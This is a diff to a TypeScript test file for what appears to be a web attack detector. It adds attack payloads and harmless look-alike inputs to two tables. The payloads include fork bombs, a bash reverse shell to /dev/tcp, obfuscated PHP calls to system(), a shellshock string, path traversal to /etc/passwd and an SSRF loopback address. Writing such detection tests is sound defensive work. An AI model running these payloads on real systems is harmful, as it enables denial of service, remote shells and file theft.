@@ -147,6 +147,23 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
   ],
   ['dynamic SQL from a variable', 'sqli', 'q', '0x77616974666F72 exec(@s)'],
   ['reading a system catalogue', 'sqli', 'q', '1 union select name from sqlite_master--'],
+  // Shell: a function that pipes into itself (a fork bomb), in the spellings bash accepts.
+  ['a fork bomb with calls written as C', 'rce', 'form', 'f(){ f() | f(); }; f'],
+  ['a fork bomb named with a dot', 'rce', 'q', '.(){ .|.& };.'],
+  ['a fork bomb run without a separator', 'rce', 'q', 'test() { test | test & } test'],
+  // Shell: bash's network redirections, what reverse shells are made of.
+  ['a socket opened on /dev/tcp', 'rce', 'q', 'exec 5<>/dev/tcp/10.0.0.1/80'],
+  ['an interactive shell sent to /dev/tcp', 'rce', 'ua', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
+  // PHP: a function name put together before it is called.
+  ['a name from concatenated bare words', 'rce', 'q', "(sy.(st).em)('uname');"],
+  ['a name from strings after a cast', 'rce', 'q', '( string ) "sys"."t"."em" (\'uname\');'],
+  ['a variable holding a built name, called', 'rce', 'q', "$y = 'sys'.'tem';($y)('uname');"],
+  ['a constant holding a built name, called', 'rce', 'form', "define('x', 'sys' . 'tem');(x)/* c */('uname');"],
+  // Whole-request points: the Referer's query is read like this request's.
+  ['shell obfuscation in the Referer query', 'rce', 'ref', "wh''oami"],
+  ['shellshock in the Referer query', 'rce', 'ref', '() { :;}; /bin/bash -c id'],
+  ['overlong UTF-8 dots in the Referer query', 'ptrav', 'ref', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd'],
+  ['a loopback address in the Referer query', 'ssrf', 'ref', 'http://0x7f.1/'],
 ];
 
 const BENIGN: Array<[string, Where, string]> = [
@@ -179,6 +196,12 @@ const BENIGN: Array<[string, Where, string]> = [
   ['a bearer token', 'auth', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc'],
   ['a sentence with case, when and then', 'q', 'In case 5 when you are done then call me'],
   ['prose naming a catalogue', 'q', 'we store settings in sqlite_master table'],
+  ['a device path in prose', 'q', 'see /dev/tcp/ for sockets'],
+  ['a C function in prose', 'form', 'My function f() { g(); } works'],
+  ['words in parentheses before a quote', 'q', "Price (USD) ('approx')"],
+  ['a dotted name in parentheses', 'form', "(see e.g. (the) docs)('x')"],
+  ['an ordinary Referer query', 'ref', 'shoes size 42'],
+  ['a search page address in the Referer query', 'ref', 'https://www.google.com/search?q=shoes'],
 ];
 
 for (const [name, cls, where, v] of ATTACKS) {
